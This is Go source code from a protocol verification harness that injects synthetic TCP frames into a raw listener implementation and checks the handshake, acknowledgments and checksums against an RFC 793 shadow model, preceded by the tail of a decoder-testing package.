				if len(a.Values) >= 3 {
					has["int-3values"+loc] = true
				} else if gi == 0 {
					has["int"+loc] = true
				}
			case 0x22:
				has["bool"+loc] = true
			case 0x33:
				has["range"+loc] = true
			default:
				if len(a.Values) >= 2 && gi == 0 {
					has["str-multi"+loc] = true
				}
			}
		}
	}
	var o []string
	for k := range has {
		o = append(o, k)
	}
	sortStrings(o)
	if len(o) == 0 {
		return "strings-only"
	}
	return strings.Join(o, "+")
}

func panicClass(m string) string {
	switch {
	case strings.Contains(m, "nil pointer"):
		return "nil-pointer"
	case strings.Contains(m, "out of range"):
		return "index-out-of-range"
	case strings.Contains(m, "makeslice"):
		return "makeslice"
	}
	return "other"
}

func ippTLV(tag byte, name, val string) []byte {
	b := []byte{tag}
	b = binary.BigEndian.AppendUint16(b, uint16(len(name)))
	b = append(b, name...)
	b = binary.BigEndian.AppendUint16(b, uint16(len(val)))
	return append(b, val...)
}

func clip(s string, n int) string {
	if len(s) > n {
		return s[:n]
	}
	return s
}

func mini(a, b int) int {
	if a < b {
		return a
	}
	return b
}

func (prop) Summarize(all []core.Result, nrec int) map[string]interface{} {
	seqs, prog := 0, 0
	exh := true
	maxLen := 0
	for _, r := range all {
		if ob, ok := r.Witness.(decObs); ok {
			seqs += ob.Sequences
			prog += ob.Progressed
			if ob.Exhaustive && ob.Len > maxLen {
				maxLen = ob.Len
			}
		}
	}
	_ = exh
	return map[string]interface{}{"decoder_sequences_run": seqs, "decoder_sequences_with_progress": prog, "decoder_exhaustive_up_to_length": maxLen, "decoder_buffers": 56, "decoder_ops": len(allOps())}
}
