// Package c14: raw-listener TCP handshake, acks and checksums hold for all
// sequence numbers. Frames are injected synchronously into the real
// handleTCP (verif accessor) and the frames it queues are drained from the
// transmit ring, decoded and verified by an independent codec, and checked
// against a shadow model of what a correct peer must observe.
package c14

import (
	"bytes"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"verif/htlab/internal/core"
	"verif/htlab/internal/lab"
	fr "verif/htlab/internal/ref/frames"
)

type prop struct{}

func init() { core.Register(prop{}) }

func (prop) ID() string    { return "C14" }
func (prop) Level() string { return "exploration" }
func (prop) Rule() string {
	return "scenario = 1..4 simultaneous client connections to a fresh raw listener (verif constructor, synchronous injection into the real handleTCP): client ISN from {0,1,2^31-1,2^31,2^32-2,2^32-1} or seeded, source/destination ports incl. decoded ones and swapped port pairs, payload 0..4000 bytes in 1..8 in-order segments (<=1460 bytes, odd and even lengths, PSH on a chosen segment), FIN; all interleavings of 2 connections x 5 frames (252) and seeded interleavings beyond; a seeded subset parks the connection handler at the yield point between its buffer check and its wait while the pushed data is injected. Oracle: RFC 793 shadow model of the peer's expectations over the frames drained from the transmit ring (decoded and checksum-verified by an independent codec) and the connection's event. Non-trivial = the SYN was answered; distinct by scenario parameters. Also: per peer address, IPv4 identification values at which the reply header's checksum needs a second carry fold or crosses a carry boundary (derived from the SYN-ACK, set through the hook VerifSetIPID); and a reconnect from the same address and port after a connection has been carried to its end. Every fifth seeded scenario delivers its frames padded to the Ethernet minimum of 60 bytes, every tenth with a four-byte trailer as well. One seeded connection in seven puts its FIN on the last data segment. first-ends-while-second-open: connection A is finished on both sides (optionally followed by a last ACK or a RST) between B's handshake and B's data. Events of connections that share an address/port tuple are attributed by the bytes they carry. connect-after-reset-same-tuple: a half-open scan (SYN, SYN-ACK, RST) followed by a full connection on the same address/port tuple."
}
func (prop) Assumptions() []string {
	return []string{"frames are injected through the verif accessor that runs the receive loop's parse-and-dispatch in the caller's goroutine; emitted frames are read from the transmit ring instead of the wire", "the server's initial sequence number is drawn by the implementation and learned from its SYN-ACK (its boundary values are not steerable)", "segments are at most 1460 bytes and in order"}
}

var me = net.IPv4(127, 0, 0, 1)

type conn struct {
	Peer  int    `json:"peer"`
	Sport int    `json:"sport"`
	Dport int    `json:"dport"`
	ISN   uint32 `json:"isn"`
	Segs  []int  `json:"segs"` // segment lengths
	Psh   int    `json:"psh"`  // index of the segment carrying PSH (-1: none)
	Fin   bool   `json:"fin"`
	HTTP  bool   `json:"http"`
	// FinData: the client's FIN travels on its last data segment instead of on a segment of its own
	FinData bool `json:"fin_on_last_data_segment,omitempty"`
	// End: one more segment after the client's FIN: "ack" (a last bare acknowledgment) or "rst"
	End string `json:"end,omitempty"`
	// RstOnly: the client answers the SYN-ACK with a RST and that is all (a half-open scan)
	RstOnly bool `json:"rst_after_synack,omitempty"`
}

type scenario struct {
	Conns []conn `json:"conns"`
	Order []int  `json:"order"` // connection index per injected frame
	Park  bool   `json:"park"`  // park the handler at the yield point while pushed data arrives
	Kind  string `json:"kind"`
	// Pad: frames arrive as a wire delivers them: zero-padded to the Ethernet minimum of 60 bytes, and (Pad = 2)
	// with a four-byte trailer after the datagram; the IPv4 total length says where the datagram ends
	Pad int `json:"pad,omitempty"`
	// PeerIPs, when set, replaces the default peer addresses (index = conn.Peer)
	PeerIPs []string `json:"peer_ips,omitempty"`
}

func (sc scenario) peer(i int) net.IP {
	if i < len(sc.PeerIPs) {
		return net.ParseIP(sc.PeerIPs[i]).To4()
	}
	return peerIP(i)
}

func (c conn) nframes() int {
	if c.RstOnly {
		return 2
	}
	n := 2 + len(c.Segs)
	if c.Fin && !(c.FinData && len(c.Segs) > 0) {
		n++
	}
	if c.End != "" {
		n++
	}
	return n
}

var bounds = []uint32{0, 1, 1<<31 - 1, 1 << 31, 1<<32 - 2, 1<<32 - 1}
var dports = []int{23, 80, 443, 445, 1433, 6379, 9200, 8080, 5000, 31337, 1, 65535}

func mkConn(r *core.Rng, i int) conn {
	c := conn{Peer: i, Sport: 1024 + r.Intn(60000), Dport: dports[r.Intn(len(dports))]}
	if c.Sport == 22 {
		c.Sport = 2222
	}
	if r.Bool() {
		c.ISN = bounds[r.Intn(len(bounds))]
	} else {
		c.ISN = uint32(r.U64())
	}
	if r.Chance(1, 6) { // sequence space wraps inside the payload
		c.ISN = uint32(1<<32 - uint64(r.Range(2, 3000)))
	}
	total := r.PickI([]int{0, 1, 2, 3, 100, 513, 1460, 1461, 2047, 2048, 2049, 3000, 3999, 4000})
	if total > 0 {
		n := r.Range(1, 8)
		left := total
		for j := 0; j < n && left > 0; j++ {
			l := left
			if j < n-1 {
				l = r.Range(1, mini(left, 1460))
			}
			if l > 1460 {
				l = 1460
			}
			c.Segs = append(c.Segs, l)
			left -= l
		}
		for left > 0 {
			l := mini(left, 1460)
			c.Segs = append(c.Segs, l)
			left -= l
		}
		c.Psh = r.Intn(len(c.Segs))
		if r.Chance(1, 6) {
			c.Psh = -1
		}
	} else {
		c.Psh = -1
	}
	c.Fin = true
	c.HTTP = c.Dport == 80 || c.Dport == 9200
	if len(c.Segs) > 0 && r.Chance(1, 7) {
		c.FinData = true
	}
	return c
}

func scenarios(tier string, seed int64) []scenario {
	var out []scenario
	// all interleavings of two 5-frame connections (SYN, ACK, data+PSH, data, FIN)
	base := func(i int) conn {
		return conn{Peer: i, Sport: 40000 + i, Dport: 8080, ISN: []uint32{1<<32 - 3, 77}[i], Segs: []int{3, 2}, Psh: 1, Fin: true}
	}
	var rec func(cur []int, a, b int)
	rec = func(cur []int, a, b int) {
		if a == 0 && b == 0 {
			out = append(out, scenario{Conns: []conn{base(0), base(1)}, Order: append([]int(nil), cur...), Kind: "interleave-2x5"})
			return
		}
		if a > 0 {
			rec(append(cur, 0), a-1, b)
		}
		if b > 0 {
			rec(append(cur, 1), a, b-1)
		}
	}
	rec(nil, 5, 5)
	// swapped port pairs from the same peer, and same ports from different peers
	for _, o := range [][]int{{0, 0, 0, 0, 1, 1, 1, 1}, {0, 1, 0, 1, 0, 1, 0, 1}, {1, 0, 1, 0, 0, 1, 0, 1}, {0, 0, 1, 1, 1, 0, 0, 1}} {
		a := conn{Peer: 0, Sport: 5000, Dport: 8080, ISN: 10, Segs: []int{4}, Psh: 0, Fin: true}
		b := conn{Peer: 0, Sport: 8080, Dport: 5000, ISN: 999, Segs: []int{6}, Psh: 0, Fin: true}
		out = append(out, scenario{Conns: []conn{a, b}, Order: o, Kind: "swapped-ports-same-peer"})
		b2 := conn{Peer: 1, Sport: 5000, Dport: 8080, ISN: 999, Segs: []int{6}, Psh: 0, Fin: true}
		out = append(out, scenario{Conns: []conn{a, b2}, Order: o, Kind: "same-ports-different-peers"})
	}
	n := 900
	if tier == "thorough" {
		n = 40000
	}
	for i := 0; i < n; i++ {
		r := core.NewRng(seed, "C14", i)
		nc := r.PickI([]int{1, 1, 1, 2, 2, 3, 4})
		sc := scenario{Kind: fmt.Sprintf("seeded-%dconn", nc)}
		if i%5 == 4 {
			sc.Pad = 1 + (i/5)%2
			sc.Kind += "-padded-frames"
		}
		left := []int{}
		for j := 0; j < nc; j++ {
			c := mkConn(r, j)
			sc.Conns = append(sc.Conns, c)
			left = append(left, c.nframes())
		}
		for {
			var cand []int
			for j, l := range left {
				if l > 0 {
					cand = append(cand, j)
				}
			}
			if len(cand) == 0 {
				break
			}
			j := cand[r.Intn(len(cand))]
			if nc > 1 && r.Chance(1, 2) { // bursts of the same connection are common too
				j = cand[0]
			}
			sc.Order = append(sc.Order, j)
			left[j]--
		}
		out = append(out, sc)
	}
	// a client that reconnects from the same address and port after its connection has been closed (the listener
	// closes first on undecoded ports and keeps the old connection in TIME-WAIT): the second connection is judged
	// like any other
	nrc := 12
	if tier == "thorough" {
		nrc = 200
	}
	for i := 0; i < nrc; i++ {
		r := core.NewRng(seed, "C14/reconnect", i)
		a := conn{Peer: 0, Sport: 25000 + i, Dport: []int{4444, 8080, 31337, 5000}[i%4], ISN: uint32(r.U64()), Segs: []int{r.Range(1, 30)}, Psh: 0, Fin: true}
		b := a
		b.ISN = []uint32{1<<31 - 1, uint32(r.U64()), a.ISN, 0}[i%4]
		b.Segs = []int{r.Range(1, 30), r.Range(1, 30)}
		b.Psh = 1
		sc := scenario{Conns: []conn{a, b}, Kind: "reconnect-same-tuple"}
		for j := 0; j < a.nframes(); j++ {
			sc.Order = append(sc.Order, 0)
		}
		// the client's last ACK (of the listener's FIN) travels with its FIN here; one more ACK closes the first connection
		for j := 0; j < b.nframes(); j++ {
			sc.Order = append(sc.Order, 1)
		}
		out = append(out, sc)
	}
	// a half-open scan (SYN, SYN-ACK, RST) followed by a full connection on the same address/port tuple
	nrs := 8
	if tier == "thorough" {
		nrs = 100
	}
	for i := 0; i < nrs; i++ {
		r := core.NewRng(seed, "C14/after-reset", i)
		a := conn{Peer: 0, Sport: 28000 + i, Dport: []int{4444, 8080, 23, 5000}[i%4], ISN: uint32(r.U64()), Psh: -1, RstOnly: true}
		b := a
		b.RstOnly, b.ISN = false, []uint32{a.ISN, uint32(r.U64()), 0, 1<<32 - 1}[i%4]
		b.Segs, b.Psh, b.Fin = []int{r.Range(1, 40)}, 0, true
		sc := scenario{Conns: []conn{a, b}, Kind: "connect-after-reset-same-tuple", Order: []int{0, 0}}
		for j := 0; j < b.nframes(); j++ {
			sc.Order = append(sc.Order, 1)
		}
		out = append(out, sc)
	}
	// the first of two connections is finished on both sides (and, in two variants, followed by a last bare ACK or
	// a RST) while the second, opened after it, is still open; the second then sends its data and closes
	nfe := 12
	if tier == "thorough" {
		nfe = 150
	}
	for i := 0; i < nfe; i++ {
		r := core.NewRng(seed, "C14/first-ends", i)
		a := conn{Peer: 0, Sport: 26000 + i, Dport: []int{23, 4444, 8080, 5000}[i%4], ISN: uint32(r.U64()), Segs: []int{r.Range(1, 30)}, Psh: 0, Fin: true, End: []string{"", "ack", "rst"}[i%3]}
		b := conn{Peer: 1, Sport: 27000 + i, Dport: []int{5000, 31337, 4444}[i%3], ISN: []uint32{1<<32 - 2, uint32(r.U64()), 0}[i%3], Segs: []int{r.Range(1, 200), r.Range(1, 200)}, Psh: 1, Fin: true}
		if i%5 == 4 {
			b.Peer = 0 // both from one peer
		}
		sc := scenario{Conns: []conn{a, b}, Kind: "first-ends-while-second-open"}
		sc.Order = []int{0, 0, 1, 1}
		for j := 2; j < a.nframes(); j++ {
			sc.Order = append(sc.Order, 0)
		}
		for j := 2; j < b.nframes(); j++ {
			sc.Order = append(sc.Order, 1)
		}
		out = append(out, sc)
	}
	// IPv4 identification values at the carry boundaries of the header checksum, per peer address: the child
	// learns the listener's header constants from the SYN-ACK and sets the identification (verif hook) before
	// each later step
	addrs := []string{"192.168.1.77", "10.0.0.2", "172.16.254.254", "203.0.113.9", "100.64.255.1", "223.255.255.254", "1.0.0.1", "198.51.100.200"}
	na := 8
	if tier == "thorough" {
		na = 120
	}
	for i := 0; i < na; i++ {
		r := core.NewRng(seed, "C14/ipid", i)
		ip := fmt.Sprintf("%d.%d.%d.%d", r.Range(1, 223), r.Intn(256), r.Intn(256), r.Range(1, 254))
		if i < len(addrs) {
			ip = addrs[i]
		}
		if strings.HasPrefix(ip, "127.") {
			ip = "128" + ip[3:]
		}
		sc := scenario{Kind: "ipid-boundary", PeerIPs: []string{ip}}
		for j := 0; j < 10; j++ {
			sc.Conns = append(sc.Conns, conn{Peer: 0, Sport: 20000 + j, Dport: 8080, ISN: uint32(r.U64()), Segs: []int{r.Range(1, 40)}, Psh: 0, Fin: true})
			sc.Order = append(sc.Order, j, j, j, j)
		}
		out = append(out, sc)
	}
	// parked-handler scenarios (each costs the implementation's 60 s read timeout when the wake-up is lost)
	np := 6
	if tier == "thorough" {
		np = 40
	}
	for i := 0; i < np; i++ {
		r := core.NewRng(seed, "C14/park", i)
		c := conn{Peer: 0, Sport: 30000 + i, Dport: []int{8080, 23, 6379, 1433}[i%4], ISN: uint32(r.U64()), Segs: []int{r.Range(1, 300)}, Psh: 0, Fin: false}
		out = append(out, scenario{Conns: []conn{c}, Order: []int{0, 0, 0}, Park: true, Kind: "parked-handler"})
	}
	return out
}

func sameTuple(c conn, d *fr.Decoded, sc scenario) bool {
	return int(d.Dport) == c.Sport && int(d.Sport) == c.Dport && d.IPDst != nil && d.IPDst.Equal(sc.peer(c.Peer))
}

func peerIP(i int) net.IP { return net.IPv4(198, 18, 5, byte(10+i)) }

func payloadOf(c conn, ci int) []byte {
	total := 0
	for _, l := range c.Segs {
		total += l
	}
	if c.HTTP {
		req := []byte(fmt.Sprintf("GET /c%d HTTP/1.1\r\nHost: raw.test\r\nX-Pad: ", ci))
		for len(req) < total-4 {
			req = append(req, 'x')
		}
		req = append(req, []byte("\r\n\r\n")...)
		if len(req) >= total {
			return req[:total]
		}
		return req
	}
	b := make([]byte, total)
	for i := range b {
		b[i] = byte('a' + (i+ci*7)%26)
	}
	return b
}

// ---- child -------------------------------------------------------------------------------

type frameObs struct {
	After int    `json:"after"` // index of the injected frame after which it was drained (-1 = final drain)
	Hex   string `json:"hex"`
}

type evObs struct {
	Cat     string `json:"cat"`
	SrcIP   string `json:"src_ip"`
	SrcPort int    `json:"src_port"`
	DstIP   string `json:"dst_ip"`
	DstPort int    `json:"dst_port"`
	HasPl   bool   `json:"has_payload"`
	Payload string `json:"payload_hex"`
	Type    string `json:"type"`
}

type scnObs struct {
	Frames  []frameObs `json:"frames"`
	Events  []evObs    `json:"events"`
	Parked  int64      `json:"parked_hits"`
	WaitMs  int64      `json:"wait_ms"`
	Skipped []string   `json:"skipped,omitempty"`
	IPIDs   []uint32   `json:"ip_ids_set,omitempty"` // identification values set through the hook, in order
}

var parkGate atomic.Value // chan struct{} or nil
var parkHits int64

func init() {
	lab.OnYield("canary.socket.prewait", func() {
		if g, ok := parkGate.Load().(chan struct{}); ok && g != nil {
			atomic.AddInt64(&parkHits, 1)
			<-g
		}
	})
}

type cstate struct {
	srvISN  uint32
	haveISN bool
	sent    int
	next    int
	ack     uint32 // what the client acknowledges: srvISN+1, or the server's FIN once seen
	finSent bool
}

func runScenario(k int, sc scenario) scnObs {
	var ob scnObs
	id := fmt.Sprintf("c14-%d", k)
	var peers []net.IP
	for i := range sc.Conns {
		peers = append(peers, sc.peer(i))
	}
	h, err := lab.StartCanary(id, "direct", peers, false)
	if err != nil {
		ob.Skipped = append(ob.Skipped, err.Error())
		return ob
	}
	defer func() {
		h.C.VerifClose()
		syscall.Close(h.Fd)
	}()
	var gate chan struct{}
	if sc.Park {
		gate = make(chan struct{})
		atomic.StoreInt64(&parkHits, 0)
		parkGate.Store(gate)
		defer parkGate.Store((chan struct{})(nil))
	}
	st := make([]cstate, len(sc.Conns))
	pl := make([][]byte, len(sc.Conns))
	for i, c := range sc.Conns {
		pl[i] = payloadOf(c, i)
	}
	drain := func(after int) {
		for _, f := range h.C.VerifDrainTx() {
			ob.Frames = append(ob.Frames, frameObs{After: after, Hex: hex.EncodeToString(f)})
			d := fr.DecodeTCPFrame(f)
			// learn the server ISN from the SYN-ACK addressed to a connection
			for i, c := range sc.Conns {
				if len(d.Problems) > 0 || int(d.Dport) != c.Sport || int(d.Sport) != c.Dport || !d.IPDst.Equal(sc.peer(c.Peer)) {
					continue
				}
				if st[i].next == 0 {
					continue // this connection has not sent its SYN yet (a reconnect on the same tuple)
				}
				if d.Flags&(fr.SYN|fr.ACK) == fr.SYN|fr.ACK && !st[i].haveISN {
					st[i].srvISN, st[i].haveISN = d.Seq, true
					st[i].ack = d.Seq + 1
				}
				if d.Flags&fr.FIN != 0 && st[i].haveISN {
					// a real peer acknowledges the listener's FIN in its next segment
					st[i].ack = d.Seq + uint32(len(d.Payload)) + 1
				}
			}
		}
	}
	var idTargets []uint32
	idNext := 0
	for step, ci := range sc.Order {
		c := sc.Conns[ci]
		s := &st[ci]
		src := sc.peer(c.Peer)
		if sc.Kind == "ipid-boundary" && step > 0 {
			if idTargets == nil && len(ob.Frames) > 0 {
				raw, _ := hex.DecodeString(ob.Frames[0].Hex)
				idTargets = ipidTargets(raw)
			}
			if len(idTargets) > 0 && s.next >= 2 {
				id := idTargets[idNext%len(idTargets)]
				idNext++
				h.C.VerifSetIPID(id)
				ob.IPIDs = append(ob.IPIDs, id)
			}
		}
		t := fr.TCP{Sport: uint16(c.Sport), Dport: uint16(c.Dport), Off: -1}
		var data []byte
		switch {
		case s.next == 0:
			t.Seq, t.Flags = c.ISN, fr.SYN
		case s.next == 1:
			if !s.haveISN {
				ob.Skipped = append(ob.Skipped, fmt.Sprintf("conn %d: no SYN-ACK seen, cannot continue", ci))
				s.next++
				continue
			}
			t.Seq, t.Ack, t.Flags = c.ISN+1, s.ack, fr.ACK
			if c.RstOnly {
				t.Ack, t.Flags = 0, fr.RST
			}
			if sc.Park {
				// let the handler goroutine reach the yield point before the data is injected
				defer func() {}()
			}
		case s.next-2 < len(c.Segs):
			j := s.next - 2
			data = pl[ci][s.sent : s.sent+c.Segs[j]]
			t.Seq, t.Ack, t.Flags = c.ISN+1+uint32(s.sent), s.ack, fr.ACK
			if j == c.Psh {
				t.Flags |= fr.PSH
			}
			if c.Fin && c.FinData && j == len(c.Segs)-1 {
				t.Flags |= fr.FIN
				s.finSent = true
			}
			s.sent += len(data)
		case c.End != "" && s.finSent:
			// after the close: a last bare acknowledgment, or a reset
			t.Seq, t.Ack, t.Flags = c.ISN+2+uint32(s.sent), s.ack, fr.ACK
			if c.End == "rst" {
				t.Flags = fr.RST
			}
		default:
			s.finSent = true
			if sc.Kind == "reconnect-same-tuple" || (sc.Kind == "first-ends-while-second-open" && ci == 0) {
				// the client closes only after it has seen the listener's FIN (the handler closes on its own
				// goroutine), so that its FIN carries the last acknowledgment and the connection is finished
				// on both sides before the reconnect
				deadline := time.Now().Add(3 * time.Second)
				for s.ack == s.srvISN+1 && time.Now().Before(deadline) {
					time.Sleep(2 * time.Millisecond)
					drain(step - 1)
				}
			}
			t.Seq, t.Ack, t.Flags = c.ISN+1+uint32(s.sent), s.ack, fr.FIN|fr.ACK
		}
		s.next++
		frame := fr.Eth(net.HardwareAddr{0, 0, 0, 0, 0, 0}, lab.PeerMAC, 0x0800, fr.IPv4{IHL: -1, TotalLen: -1, Proto: 6, Src: src, Dst: me, ID: uint16(step)}.Marshal(t.Marshal(src, me, data)))
		if sc.Pad > 0 {
			for len(frame) < 60 {
				frame = append(frame, 0)
			}
			if sc.Pad == 2 {
				frame = append(frame, 0xde, 0xad, 0xbe, 0xef)
			}
		}
		if sc.Park && s.next == 3 {
			// the handler must be parked between its buffer check and its wait before the pushed data arrives
			deadline := time.Now().Add(3 * time.Second)
			for atomic.LoadInt64(&parkHits) == 0 && time.Now().Before(deadline) {
				time.Sleep(time.Millisecond)
			}
		}
		h.C.VerifInject(frame)
		drain(step)
		if sc.Park && s.next == 3 {
			ob.Parked = atomic.LoadInt64(&parkHits)
			close(gate) // release the handler: the flush signal has already been sent (and lost, if it is not retained)
		}
	}
	// wait for the connections' events; verdicts are on content, the wait only bounds how long we look
	t0 := time.Now()
	wantEv := 0
	for i, c := range sc.Conns {
		if st[i].haveISN && (c.Psh >= 0 || c.Fin) {
			if c.HTTP && !bytes.HasSuffix(pl[i], []byte("\r\n\r\n")) {
				continue // the HTTP decoders report nothing for an incomplete request: do not wait for it
			}
			wantEv++
		}
	}
	collect := func() []evObs {
		var out []evObs
		for _, cpt := range lab.Events.Since(0) {
			if cpt.Ch != id {
				continue
			}
			sp, _ := lab.Int(cpt.Rec, "source-port")
			dp, _ := lab.Int(cpt.Rec, "destination-port")
			e := evObs{Cat: lab.Str(cpt.Rec, "category"), Type: lab.Str(cpt.Rec, "type"), SrcIP: lab.Str(cpt.Rec, "source-ip"), DstIP: lab.Str(cpt.Rec, "destination-ip"), SrcPort: int(sp), DstPort: int(dp)}
			if pl, ok := cpt.Rec.KV["payload"]; ok {
				raw, _ := hex.DecodeString(pl.H)
				e.HasPl = true
				e.Payload = string(raw)
			}
			if e.Cat == "portscan" {
				continue
			}
			out = append(out, e)
		}
		return out
	}
	max := 4 * time.Second
	for {
		if len(collect()) >= wantEv {
			break
		}
		if time.Since(t0) > max {
			if max < 60*time.Second && sc.Kind != "swapped-ports-same-peer" {
				max = 70 * time.Second // the implementation's read timeout is 60 s: keep looking, the verdict is on the content
				continue
			}
			break
		}
		time.Sleep(5 * time.Millisecond)
	}
	time.Sleep(20 * time.Millisecond)
	drain(-1)
	ob.Events = collect()
	ob.WaitMs = time.Since(t0).Milliseconds()
	return ob
}

// ipidTargets takes an emitted frame and returns the IPv4 identification values at which the one's complement
// sum of a 40-byte reply header of the same connection needs a second carry fold or crosses a carry boundary,
// each with its predecessors (a step can emit two frames with consecutive identifications).
func ipidTargets(frame []byte) []uint32 {
	if len(frame) < 34 {
		return nil
	}
	ip := append([]byte(nil), frame[14:34]...)
	ip[2], ip[3] = 0, 40 // total length of a bare ACK / FIN
	ip[4], ip[5] = 0, 0  // identification
	ip[10], ip[11] = 0, 0
	var s0 uint32
	for i := 0; i < 20; i += 2 {
		s0 += uint32(ip[i])<<8 | uint32(ip[i+1])
	}
	seen := map[uint32]bool{}
	var out []uint32
	add := func(x int) {
		for d := -2; d <= 0; d++ {
			v := uint32((x + d) & 0xffff)
			if !seen[v] {
				seen[v] = true
				out = append(out, v)
			}
		}
	}
	for x := 0; x < 65536; x++ {
		t := s0 + uint32(x)
		if (t>>16)+(t&0xffff) > 0xffff { // one fold is not enough
			add(x)
		}
		if t&0xffff == 0 || t&0xffff == 0xffff { // carry boundary of the unfolded sum
			add(x)
		}
	}
	for _, x := range []int{0, 1, 0x7fff, 0x8000, 0xffff} {
		add(x)
	}
	return out
}

type params struct {
	Off int `json:"off"`
}

func (prop) Plan(tier string, seed int64) []core.Batch {
	all := scenarios(tier, seed)
	chunks := 8
	if tier == "thorough" {
		chunks = 16
	}
	npark := 0
	for _, sc := range all {
		if sc.Park {
			npark++
		}
	}
	rest := len(all) - npark // parked scenarios are the tail of the list
	per := (rest + chunks - 1) / chunks
	var plan []core.Batch
	for c := 0; c < chunks; c++ {
		n := per
		if c*per+n > rest {
			n = rest - c*per
		}
		if n <= 0 {
			break
		}
		p, _ := json.Marshal(params{Off: c * per})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("part/%d", c), N: n, Params: p, Timeout: 3000})
	}
	for i := 0; i < npark; i++ { // each may cost the implementation's 60 s read timeout: one child each, in parallel
		p, _ := json.Marshal(params{Off: rest + i})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("park/%d", i), N: 1, Params: p, Timeout: 600})
	}
	return plan
}

func (prop) Child(b core.Batch, o *core.Obs) {
	var p params
	b.P(&p)
	all := scenarios(b.Tier, b.Seed)
	to := b.To
	if to == 0 {
		to = b.N
	}
	// scenarios own their listener instance, so they can share the real-time
	// waits (a lost wake-up costs the implementation's 60 s read timeout);
	// parked-handler scenarios use a process-wide gate and run one at a time
	const wave = 40
	for from := b.From; from < to; {
		if all[p.Off+from].Park {
			o.Begin(from)
			o.EmitX("scn", runScenario(p.Off+from, all[p.Off+from]))
			o.End(from)
			from++
			continue
		}
		end := from
		for end < to && end-from < wave && !all[p.Off+end].Park {
			end++
		}
		res := make([]scnObs, end-from)
		var wg sync.WaitGroup
		for k := from; k < end; k++ {
			wg.Add(1)
			go func(k int) {
				defer wg.Done()
				res[k-from] = runScenario(p.Off+k, all[p.Off+k])
			}(k)
		}
		wg.Wait()
		for k := from; k < end; k++ {
			o.Begin(k)
			o.EmitX("scn", res[k-from])
			o.End(k)
		}
		from = end
	}
}

// ---- judge: the shadow model ----------------------------------------------------------------

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var p params
	b.P(&p)
	all := scenarios(b.Tier, b.Seed)
	var out []core.Result
	for _, r := range recs {
		if r.T != "scn" {
			continue
		}
		var ob scnObs
		if r.XInto(&ob) != nil {
			continue
		}
		k := p.Off + r.K
		sc := all[k]
		res := core.Result{K: r.K, Verdict: core.Held}
		fail := func(rule, what string) {
			if res.Verdict == core.Violated {
				return
			}
			res.Verdict = core.Violated
			res.Sig = "C14|" + rule
			if sc.Kind == "swapped-ports-same-peer" {
				// whatever rule fires first depends on frame order; the cause is one: name it by the scenario class
				res.Sig = "C14|simultaneous-connections-disturbed|swapped-ports-same-peer"
				what = "two connections from one peer with swapped port pairs (a:5000->8080 and a:8080->5000) disturb each other: " + what
			}
			res.What = what
			res.Witness = map[string]interface{}{"scenario": sc, "observed": ob, "index": k}
		}
		// replay the injections to know what the peer expects after each step
		type shadow struct {
			srvISN          uint32
			synAcked        bool
			sent            int
			finSent         bool
			next            int
			ackSeen         map[int]bool // data segment index -> acknowledged exactly
			finAnswered     bool
			lastInjectedAck uint32
		}
		sh := make([]shadow, len(sc.Conns))
		for i := range sh {
			sh[i].ackSeen = map[int]bool{}
		}
		belongs := func(d *fr.Decoded) int {
			for i, c := range sc.Conns {
				if int(d.Dport) == c.Sport && int(d.Sport) == c.Dport && d.IPDst != nil && d.IPDst.Equal(sc.peer(c.Peer)) {
					return i
				}
			}
			return -1
		}
		framesAfter := map[int][]*fr.Decoded{}
		for _, f := range ob.Frames {
			raw, _ := hex.DecodeString(f.Hex)
			d := fr.DecodeTCPFrame(raw)
			if len(d.Problems) > 0 {
				fail("malformed-frame|"+problemClass(d.Problems[0]), fmt.Sprintf("emitted frame rejected by the independent decoder: %s (frame %s)", d.Problems[0], clip(f.Hex, 160)))
			}
			if !bytes.Equal(d.EthDst, lab.PeerMAC) {
				fail("not-addressed-to-sender|mac", fmt.Sprintf("frame sent to MAC %s, sender is %s", d.EthDst, lab.PeerMAC))
			}
			if d.IPSrc != nil && !d.IPSrc.Equal(me) {
				fail("not-addressed-to-sender|ip-src", fmt.Sprintf("frame has source IP %s", d.IPSrc))
			}
			if len(d.Problems) == 0 && belongs(d) < 0 {
				fail("not-addressed-to-sender|tuple", fmt.Sprintf("frame to %s:%d from port %d matches no connection", d.IPDst, d.Dport, d.Sport))
			}
			framesAfter[f.After] = append(framesAfter[f.After], d)
		}
		for step, ci := range sc.Order {
			c := sc.Conns[ci]
			s := &sh[ci]
			fs := framesAfter[step]
			mine := func() []*fr.Decoded {
				var o []*fr.Decoded
				for _, d := range fs {
					if belongs(d) == ci || sameTuple(sc.Conns[ci], d, sc) {
						o = append(o, d)
					}
				}
				return o
			}()
			switch {
			case s.next == 0: // SYN
				ok := false
				for _, d := range mine {
					if d.Flags&(fr.SYN|fr.ACK) == fr.SYN|fr.ACK {
						ok = true
						s.srvISN, s.synAcked = d.Seq, true
						if d.Ack != c.ISN+1 {
							fail("synack-ack|"+isnClass(c.ISN), fmt.Sprintf("SYN with ISN %d answered with ack %d, want %d", c.ISN, d.Ack, c.ISN+1))
						}
					}
				}
				if !ok {
					fail("syn-not-answered|"+portClass(c), fmt.Sprintf("SYN %s:%d -> :%d (ISN %d) got no SYN-ACK", sc.peer(c.Peer), c.Sport, c.Dport, c.ISN))
				}
			case s.next == 1: // ACK of the handshake
			case s.next-2 < len(c.Segs):
				if !s.synAcked {
					break
				}
				j := s.next - 2
				s.sent += c.Segs[j]
				want := c.ISN + 1 + uint32(s.sent)
				finHere := c.Fin && c.FinData && j == len(c.Segs)-1
				if finHere {
					s.finSent = true
				}
				exact := false
				for _, d := range mine {
					if d.Flags&fr.ACK != 0 && d.Ack == want {
						exact = true
					}
					if finHere && d.Flags&fr.ACK != 0 && d.Ack == want+1 {
						exact, s.finAnswered = true, true // data and FIN acknowledged at once
					}
					if finHere && d.Ack == want+1 {
						continue
					}
					if d.Flags&fr.ACK != 0 && d.Flags&(fr.FIN|fr.SYN|fr.RST) == 0 && len(d.Payload) == 0 && d.Ack != want {
						fail("ack-number|"+isnClass(c.ISN), fmt.Sprintf("after %d bytes (ISN %d) the listener acknowledged %d, want %d", s.sent, c.ISN, d.Ack, want))
					}
				}
				if !exact {
					fail("data-not-acked|"+interClass(sc), fmt.Sprintf("connection %d: segment %d (%d bytes so far, ISN %d) was not acknowledged with ack %d (frames after it: %d)", ci, j, s.sent, c.ISN, want, len(mine)))
				}
